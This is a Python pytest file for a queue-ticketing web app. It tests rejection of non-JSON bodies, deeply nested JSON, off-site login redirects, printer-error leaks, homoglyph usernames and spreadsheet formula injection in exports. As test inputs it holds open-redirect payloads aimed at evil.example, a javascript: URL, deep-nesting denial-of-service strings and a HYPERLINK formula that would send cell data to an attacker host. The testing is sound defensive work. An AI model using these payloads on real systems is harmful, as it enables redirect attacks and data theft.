"""Bad input is a 4xx (issue 11, item 5): JSON media type, deep nesting, the login redirect, printer internals,
ASCII usernames and formula injection in exports. docs/security.md lists what each test defends.
"""

from __future__ import annotations

import csv
import io
import socket

import pytest
import sqlalchemy as sa

from queue_app.core.extensions import db
from queue_app.staff.signin import safe_next

from ..helpers import PASSWORD, TEST_SITE, Staff, built_app, error_of, kiosk_headers, make_site, take_ticket

# --- application/json only ----------------------------------------------------------------------


@pytest.mark.parametrize("content_type", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data",
                                          None])
def test_a_body_that_is_not_json_is_415(client, clerk, content_type):
    body = '{"service": "PERIZINAN", "priority": true}'
    headers = {"Content-Type": content_type} if content_type else {}
    kiosk = kiosk_headers(client.application)  # with credentials: the body's type is what is wrong
    resp = client.post("/api/tickets", data=body, headers={**kiosk, **headers})
    assert error_of(resp, 415)["code"] == "unsupported_media_type"
    # also where the body is optional or the route is staff-only: no JSON endpoint takes a cross-site form
    resp = client.post("/api/counters/L01/pause", data=body, headers={**clerk, **headers})
    assert error_of(resp, 415)["code"] == "unsupported_media_type"
    from queue_app.queue.models import Ticket

    with client.application.app_context():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(Ticket)) == 0


def test_json_with_a_charset_and_bodiless_posts_still_work(client, clerk):
    resp = client.post("/api/tickets", data='{"service": "PERIZINAN", "kiosk": "K1"}',
                       headers={**kiosk_headers(client.application), "Content-Type": "application/json; charset=utf-8"})
    assert resp.status_code == 201
    assert client.post("/api/counters/L01/pause", headers=clerk).status_code == 200  # no body, no type needed


# --- nesting too deep --------------------------------------------------------------------------


@pytest.mark.parametrize("raw", ["[" * 5000, '{"service": ' + "[" * 100_000 + "]" * 100_000 + "}",
                                 '{"a":' * 5000 + "1" + "}" * 5000])
def test_json_nested_too_deep_is_400(app, client, admin, raw):
    app.config["PROPAGATE_UNEXPECTED"] = True  # a RecursionError would raise here instead of hiding as a 500
    app.config["MAX_CONTENT_LENGTH"] = 1024 * 1024
    kiosk = kiosk_headers(client.application)
    for path, headers in (("/api/tickets", kiosk), ("/api/auth/token", {}), ("/api/admin/users", admin)):
        resp = client.post(path, data=raw, content_type="application/json", headers=headers)
        assert error_of(resp, 400)["code"] == "bad_request", path


def test_socketio_packet_nested_too_deep_is_refused_not_a_crash(app):
    """A polling client sends an event nested 5,000 deep: the packet is refused, the server answers."""
    client = app.test_client()
    opened = client.get("/socket.io/?EIO=4&transport=polling")
    assert opened.status_code == 200
    sid = opened.get_data(True).split('"sid":"')[1].split('"')[0]
    url = f"/socket.io/?EIO=4&transport=polling&sid={sid}"
    assert client.post(url, data="40/display,").status_code == 200
    client.get(url)  # the connect answer
    resp = client.post(url, data='42/display,["hello",' + "[" * 5000 + "]" * 5000 + "]")
    assert resp.status_code < 500
    # the server still works for everyone else
    assert app.test_client().get("/api/display").status_code == 200


def test_the_socketio_json_module_turns_recursion_into_valueerror(app):
    packet_class = app.extensions["socketio"].server.packet_class
    with pytest.raises(ValueError, match="nested too deep"):
        packet_class(encoded_packet='2/display,["x",' + "[" * 5000 + "]" * 5000 + "]")


# --- the login redirect ------------------------------------------------------------------------


@pytest.mark.parametrize("target", ["/%09/evil.example/x", "//evil.example/x", "/%5Cevil.example/x",
                                    "/%5C%5Cevil.example", "https://evil.example/", "/%0A/evil.example",
                                    "/%0D%0A/evil.example", "%2F%2Fevil.example", "javascript:alert(1)",
                                    "/\u0085/evil.example", "http:/evil.example", "evil.example"])
def test_login_never_redirects_off_site(client, staff, target):
    staff.user("siti", "clerk", ["L01"], password=PASSWORD)
    page = client.get(f"/login?next={target}")
    import re

    token = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
    resp = client.post(f"/login?next={target}", data={"username": "siti", "password": PASSWORD,
                                                        "csrf_token": token})
    assert resp.status_code == 302
    location = resp.headers["Location"]
    assert location == "/counter/", location


def test_login_keeps_a_same_site_next(client, staff):
    staff.user("siti", "clerk", ["L01"], password=PASSWORD)
    import re

    token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/login").text).group(1)
    resp = client.post("/login?next=/counter/%3Fx%3D1", data={"username": "siti", "password": PASSWORD,
                                                              "csrf_token": token})
    assert resp.headers["Location"] == "/counter/?x=1"


@pytest.mark.parametrize(("url", "kept"), [("/counter/", True), ("/admin/users?x=1#a", True), ("/", True),
                                           ("//x", False), ("/\t/x", False), ("/\\x", False), ("x", False),
                                           ("/a\x7fb", False), ("", False), ("http://x/", False)])
def test_safe_next(url, kept):
    assert safe_next(url) == (url if kept else "")


# --- printer internals -------------------------------------------------------------------------


def _closed_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture
def dead_printer_app(tmp_path):
    port = _closed_port()
    text = TEST_SITE + f"""
[[printers]]
code = "net"
kind = "network"
host = "127.0.0.1"
port = {port}
profile = "TM-T82II"

[[kiosks]]
code = "K3"
printer = "net"
"""
    with built_app(make_site(tmp_path, text), tmp_path / "print.db") as app:
        app.config["TEST_PRINTER_PORT"] = port
        yield app


def test_anonymous_callers_never_read_printer_internals(dead_printer_app):
    app = dead_printer_app
    port = str(app.config["TEST_PRINTER_PORT"])
    client = app.test_client()
    k3 = kiosk_headers(app, "K3")  # the kiosk's visitor, not staff
    anonymous = client.post("/api/tickets", json={"service": "PERIZINAN", "kiosk": "K3"}, headers=k3).get_json()
    anonymous = anonymous["print"]
    assert anonymous["status"] == "failed"
    assert anonymous["error"] and "127.0.0.1" not in anonymous["error"] and port not in anonymous["error"]
    assert anonymous["error"] == "The ticket could not be printed; please ask the staff."
    # an information desk (staff) reads the printer's own words, to fix it
    staff = Staff(app).headers("desk", "admin")
    desk = client.post("/api/tickets", json={"service": "PERIZINAN", "kiosk": "K3"}, headers=staff).get_json()
    assert desk["print"]["status"] == "failed"
    assert desk["print"]["error"] != anonymous["error"]
    # an idempotent repeat reads the stored reason the same way
    key = {**k3, "Idempotency-Key": "repeat-1"}
    client.post("/api/tickets", json={"service": "PERIZINAN", "kiosk": "K3"}, headers=key)
    again = client.post("/api/tickets", json={"service": "PERIZINAN", "kiosk": "K3"}, headers=key).get_json()
    assert again["repeated"] is True and again["print"]["error"] == anonymous["error"]


# --- usernames ---------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["аdmin", "siti\u200b", "budi santoso", "ｓｉｔｉ", "us\ter", "a" * 65, "é"])
def test_usernames_are_ascii_only_in_the_api(app, client, admin, name):
    resp = client.post("/api/admin/users", headers=admin, json={"username": name, "role": "clerk",
                                                                "password": PASSWORD})
    err = error_of(resp, 422)
    assert err["code"] == "validation_failed" and err.get("field") == "username" and "ASCII" in err["message"]
    from queue_app.staff.models import User

    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(User).where(User.username == name)) == 0


def test_usernames_with_dots_dashes_and_underscores_are_fine(client, admin):
    for name in ("siti.rahma", "budi_s", "loket-3", "A1"):
        resp = client.post("/api/admin/users", headers=admin, json={"username": name, "role": "clerk",
                                                                    "password": PASSWORD})
        assert resp.status_code == 201, resp.get_json()


def test_cli_refuses_a_non_ascii_username(tmp_path):
    import os
    import subprocess
    import sys

    cfg = tmp_path / "config.toml"
    cfg.write_text(TEST_SITE)
    result = subprocess.run([sys.executable, "-m", "queue_app", "--config", str(cfg), "user", "add", "аdmin",
                             "--role", "admin", "--password-stdin"], input=PASSWORD + "\n", text=True,
                            capture_output=True, cwd=tmp_path, env=dict(os.environ), timeout=120)
    assert result.returncode != 0 and "ASCII" in result.stderr, result.stderr


def test_admin_page_refuses_a_non_ascii_username(app, staff):
    from ..helpers import login

    staff.user("boss", "admin")
    client = app.test_client()
    login(client, "boss")
    import re

    page = client.get("/admin/users")
    token = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
    resp = client.post("/admin/users", data={"username": "аdmin", "role": "clerk", "password": PASSWORD,
                                             "csrf_token": token}, follow_redirects=True)
    assert "ASCII" in resp.get_data(True)
    from queue_app.staff.models import User

    with app.app_context():
        assert db.session.scalar(sa.select(User.id).where(User.username == "аdmin")) is None


# --- formulas in exports -----------------------------------------------------------------------


def test_exports_escape_what_a_spreadsheet_would_run(app, client, staff, manager):
    from openpyxl import load_workbook

    from queue_app.core.exports import spreadsheet_text

    assert [spreadsheet_text(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "A-1", 5, -5, "")] == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "A-1", 5, -5, ""]
    # a clerk whose username and full name are formulas serves one ticket
    staff.user("-budi", "clerk", ["L01"], full_name='=HYPERLINK("http://evil.example/?"&A1,"klik")')
    clerk = staff.headers("-budi")
    take_ticket(client)
    assert client.post("/api/counters/L01/call-next", headers=clerk).status_code == 200
    assert client.post("/api/counters/L01/start", headers=clerk).status_code == 200
    assert client.post("/api/counters/L01/finish", headers=clerk).status_code == 200

    text = client.get("/api/stats/export.csv", headers=manager).get_data(True)
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["clerk"] == "'-budi"

    data = client.get("/api/stats/export.xlsx", headers=manager).data
    wb = load_workbook(io.BytesIO(data))
    cells = [c for ws in wb for r in ws.iter_rows() for c in r if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no cell may be a formula"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + '=HYPERLINK("http://evil.example/?"&A1,"klik")' in texts
    assert "'-budi" in texts
